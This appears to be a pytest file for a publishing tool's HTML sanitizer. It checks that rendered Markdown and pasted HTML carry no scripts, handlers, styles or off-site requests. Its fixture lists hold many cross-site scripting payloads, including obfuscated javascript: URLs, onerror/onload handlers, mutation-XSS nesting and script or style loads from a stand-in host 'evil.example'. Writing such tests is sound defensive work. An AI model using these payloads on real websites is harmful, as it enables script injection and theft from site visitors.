"""Whatever an editor pastes, the HTML holds no script, no handler, no style, no foreign request."""

from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest

from kapsite.publishing.markdown import Page
from kapsite.publishing.sanitize import ATTRIBUTES, SCHEMES, TAGS, sanitize
from tests.publishing.conftest import CONTEXT

SCRIPTS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&NewLine;:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "///evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "/\t/evil.example/x",
    "&#47;&#47;evil.example/x",
    "&sol;&sol;evil.example",
    "\u2028javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:alert(1)//https://ok.example",
    "http://evil.example/",
    "/%2F/evil.example",
    '" onclick="alert(1)',
    "' onclick='alert(1)",
    "x\" style=\"background:url('//evil.example')",
    'https://ok.example/"onmouseover="alert(1)',
)
HOLDERS = (
    "[x]({})",
    "[x](<{}>)",
    '[x](<{}> "title")',
    "![x]({})",
    "![x](<{}>)",
    "[![x]({0})]({0})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "![x][r]\n\n[r]: <{}>",
    "| a |\n|-|\n| [x](<{}>) |",
    "> [!NOTE]\n> [x](<{}>)",
    "A.[^1]\n\n[^1]: [x](<{}>)",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
)
TEXTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import '//evil.example'</style>",
    "<p style=background:url(//evil.example)>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<a id=main name=main onclick=alert(1)>x</a>",
    "{fact:tags}{clinic:<script>}",
    "`<script>alert(1)</script>`",
    '[@dore2019"><script>alert(1)</script>]',
    "[<script>alert(1)</script>]{term}",
    '["><img src=x onerror=alert(1)>]{term:consent}',
)
FRAMES = (
    "{}",
    "    {}",
    "```\n{}\n```",
    "``` {}\nx\n```",
    "## {}",
    "## x {{#{}}}",
    "- {}",
    "> {}",
    "> [!{}]\n> x",
    "| {} |\n|-|\n| {} |",
    "**{}**",
    "[{}](alpha.md)",
    '[x](alpha.md "{}")',
    "![{}](/media/one.webp)",
    "[^{}]: x\n\nA.[^{}]",
    "{{fact:{}}}",
)


class Seen(HTMLParser):
    """Asserts of every tag that it is one we mean to make."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            self.handle_attribute(tag, name, value or "")

    def handle_attribute(self, tag, name, value):
        if name == "src":
            parts = urlsplit(value)
            assert not parts.scheme and not parts.netloc and value.startswith("/"), value
            assert value[1:2] not in {"/", "\\"}, value
        if name == "href":
            # As browsers read it: without tabs, line ends, and what precedes the first letter.
            value = value.translate(dict.fromkeys(b"\t\n\r")).lstrip("\0\x01 ")
            parts = urlsplit(value)
            assert parts.scheme in {*SCHEMES, ""}, value
            assert parts.scheme or not parts.netloc, value
            assert not value.startswith(("//", "/\\", "\\")), value
        if name == "popover":
            assert value == ""

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def harmless(text):
    html = Page(CONTEXT).render(text)
    seen = Seen(convert_charrefs=False)
    seen.feed(html)
    seen.close()
    return html


@pytest.mark.parametrize("holder", HOLDERS)
def test_an_address_cannot_run_or_call_out(holder):
    for script in SCRIPTS:
        harmless(holder.format(script))


@pytest.mark.parametrize("frame", FRAMES)
def test_pasted_html_is_text(frame):
    for text in TEXTS:
        harmless(frame.format(text, text))


def test_what_stands_side_by_side_does_not_add_up():
    for first, second in product(TEXTS, TEXTS):
        harmless(f"{first}{second}")


@pytest.mark.parametrize("text", TEXTS)
def test_the_last_step_alone_holds_too(text):
    seen = Seen(convert_charrefs=False)
    seen.feed(sanitize(text))
    seen.close()


@pytest.mark.parametrize("script", SCRIPTS)
def test_the_last_step_alone_takes_foreign_addresses_out(script):
    value = script.replace('"', "&quot;")
    seen = Seen(convert_charrefs=False)
    seen.feed(sanitize(f'<a href="{value}">x</a><img src="{value}">').replace("<img>", ""))
    seen.close()


def test_what_we_make_ourselves_gets_through(sheet):
    html = sheet.render(
        "## A {#a}\n\nKetamine.[@dore2019] {fact:visit-length} {clinic:phone}\n\n"
        "> [!NOTE]\n> x\n\n|a|b|\n|:-:|-|\n|1|2|\n\n1. x\n\n"
        "![a](/media/one.webp)\n\nB.[^1]\n\n[^1]: n"
    )

    for made in (
        '<h2 id="a">',
        'aria-label="Link to this section"',
        '<sup class="cite">',
        'popovertarget="term-ketamine-1"',
        "popover",
        'class="alert alert--note"',
        'scope="col"',
        'class="center"',
        'tabindex="0"',
        '<section class="footnotes">',
        'href="tel:+15555550100"',
        '<img src="/media/one.webp" alt="a">',
    ):
        assert made in html, made
